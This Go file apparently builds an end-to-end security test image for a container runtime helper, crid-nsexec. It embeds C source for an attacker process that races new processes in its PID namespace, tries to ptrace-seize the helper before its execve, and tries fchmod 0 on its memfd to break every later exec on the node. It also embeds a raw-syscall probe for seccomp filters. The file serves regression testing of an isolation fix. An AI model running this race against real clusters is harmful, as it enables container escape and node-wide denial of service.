package images

import v1 "github.com/google/go-containerregistry/pkg/v1"

// NsexecAttacker is the image of the e2e attack on crid-nsexec (issue 11):
// a busybox whose command races every process that appears in its PID
// namespace, trying to take over crid-nsexec's child between the moment it
// joined the container and its execve.
const NsexecAttacker = "registry.k8s.io/e2e-test-images/crid-nsexec-attacker:1.0"

// nsexecAttackerSource runs as the container's pid 1, alone in its PID
// namespace, so every exec into the container shows up as the next pid.
// It polls the next few pids with kill 0 (a cheap syscall that says ESRCH
// until the pid exists) and, for every process it finds, keeps trying
// until the process has exec'd or gone:
//
//   - PTRACE_SEIZE (the access check of PTRACE_ATTACH, without a SIGSTOP);
//     once attached it interrupts the process and looks at what it stopped:
//     a stop whose /proc/PID/exe is still the memfd means it holds
//     crid-nsexec before its execve (no seccomp filter yet, perhaps);
//   - open /proc/PID/exe and, when that is crid-nsexec's memfd, fchmod 0,
//     which would break every later exec on the node.
//
// Each success is a "BREACH" line on stdout; each process a "pid=" line
// with what was tried and the first errno every attempt got. A process whose
// exe it could not open (EACCES) while crid-nsexec ran it proves the race
// was run.
const nsexecAttackerSource = `#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAXPID 65536
#define AHEAD 4

enum { UNSEEN, ACTIVE, DONE };

struct proc {
	char state;
	int seize_err;   /* first PTRACE_SEIZE errno */
	int exe_err;     /* first open(/proc/PID/exe) errno */
	int chmod_err;   /* first fchmod errno */
	int memfd_seen;  /* exe was crid-nsexec's memfd */
};

static struct proc procs[MAXPID];

static int is_helper(const char *link)
{
	return strncmp(link, "/memfd:", 7) == 0;
}

static void exe_link(int pid, char *buf, size_t n)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	ssize_t l = readlink(path, buf, n - 1);
	if (l < 0)
		l = 0;
	buf[l] = 0;
}

/* after_seize stops the process it has attached to, says where it
   stopped, and lets it go. An exec event is no win: the execve that
   reports it is past its point of no return, with the new image, its
   credentials and filter in place (the image is dumpable from there). */
static const char *after_seize(int pid)
{
	char link[256];
	int st;
	const char *where = "image";
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st))
		return "exited"; /* waitpid released it to its parent */
	if ((st >> 16) == PTRACE_EVENT_EXEC) {
		where = "exec-event";
	} else {
		exe_link(pid, link, sizeof(link));
		if (is_helper(link)) {
			where = "helper";
			printf("BREACH pid=%d: stopped crid-nsexec (%s) under ptrace\n", pid, link);
		}
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return where;
}

static void try_exe(int pid, struct proc *p)
{
	char path[64], link[256];
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		if (!p->exe_err)
			p->exe_err = errno;
		return;
	}
	exe_link(pid, link, sizeof(link));
	if (is_helper(link)) {
		p->memfd_seen = 1;
		if (fchmod(fd, 0) == 0)
			printf("BREACH pid=%d: fchmod 0 on %s\n", pid, link);
		else if (!p->chmod_err)
			p->chmod_err = errno;
	}
	close(fd);
}

static const char *err(int e)
{
	return e ? strerrorname_np(e) : "-";
}

/* step tries pid once; it returns 1 if the pid exists. */
static int step(int pid)
{
	struct proc *p = &procs[pid];
	const char *stop = "-";
	if (p->state == DONE)
		return 1;
	if (kill(pid, 0) < 0 && errno == ESRCH) {
		if (p->state == UNSEEN)
			return 0;
		p->state = DONE;
	} else if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEEXEC) == 0) {
		p->state = DONE;
		stop = after_seize(pid);
	} else if (errno == ESRCH) {
		p->state = DONE;
	} else {
		if (!p->seize_err)
			p->seize_err = errno;
		p->state = ACTIVE;
		try_exe(pid, p);
		return 1;
	}
	printf("pid=%d seize=%s exe=%s memfd=%d chmod=%s stop=%s\n", pid, err(p->seize_err),
	       err(p->exe_err), p->memfd_seen, err(p->chmod_err), stop);
	return 1;
}

/* rescan steps every process in /proc, so that pids taken while it did not
   look (before it started, or by a process that came and went) do not
   leave it probing below the pids now handed out; it returns the highest. */
static int rescan(int top)
{
	DIR *d = opendir("/proc");
	if (!d)
		return top;
	struct dirent *e;
	while ((e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid > 1 && pid < MAXPID && step(pid) && pid >= top)
			top = pid + 1;
	}
	closedir(d);
	return top;
}

int main(void)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	int lo = 2, top = rescan(2);
	printf("attacker ready, pid %d\n", getpid());
	for (unsigned long i = 1;; i++) {
		for (int pid = lo; pid < top + AHEAD && pid < MAXPID; pid++) {
			if (step(pid) && pid >= top)
				top = pid + 1;
		}
		if (i % 1024 == 0)
			top = rescan(top);
		while (lo < top && procs[lo].state != ACTIVE)
			lo++;
	}
}
`

// rawSyscallSource makes the syscall of each numeric argument (with zero
// arguments) and prints "NR=RESULT", RESULT being -errno on failure and 1
// for any success: what a process under the container's seccomp filter
// gets for syscalls the profile does not name.
const rawSyscallSource = `#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		long r = syscall(atol(argv[i]), 0, 0, 0, 0, 0, 0);
		printf("%s=%ld\n", argv[i], r < 0 ? -(long)errno : 1L);
	}
	return 0;
}
`

// nsexecAttackerLayer holds /usr/local/bin/nsexec-attacker and
// /usr/local/bin/rawsyscall.
func (b *builder) nsexecAttackerLayer() (v1.Layer, error) {
	return b.layer("nsexec-attacker", func() (*tree, error) {
		t := newTree()
		for _, f := range [][2]string{
			{"/usr/local/bin/nsexec-attacker", nsexecAttackerSource},
			{"/usr/local/bin/rawsyscall", rawSyscallSource},
		} {
			bin, err := compileC([]byte(f[1]))
			if err != nil {
				return nil, err
			}
			t.file(f[0], 0o755, bin)
		}
		return t, nil
	})
}

func (b *builder) nsexecAttackerImage() (v1.Image, error) {
	return b.image(imageSpec{
		id:      "nsexec-attacker",
		layers:  []func() (v1.Layer, error){b.busyboxLayer, b.nsexecAttackerLayer},
		history: []string{busyboxHistory, "/usr/local/bin/nsexec-attacker (races execs into its container), /usr/local/bin/rawsyscall"},
		cmd:     []string{"/usr/local/bin/nsexec-attacker"},
		workdir: "/",
		env:     []string{defaultPath},
	})
}
